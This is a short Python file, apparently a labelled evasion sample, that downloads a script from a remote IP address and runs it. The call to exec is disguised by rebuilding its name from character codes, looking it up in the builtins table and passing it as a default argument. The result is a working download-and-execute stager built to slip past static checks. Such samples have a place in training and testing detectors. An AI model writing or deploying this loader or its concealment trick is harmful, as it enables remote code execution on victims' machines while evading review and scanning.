# evasion: exec travels as a default argument, taken from vars(builtins) with its name built from code points; the body only calls the parameter
# grade: medium; does: download-exec
import builtins
import urllib.request


def stage(code, _runner=vars(builtins)[bytes([101, 120, 101, 99]).decode()]):
    _runner(code, {})


def fetch(url):
    with urllib.request.urlopen(url, timeout=10) as resp:
        return resp.read().decode()


stage(fetch("http://203.0.113.44/bootstrap.py"))
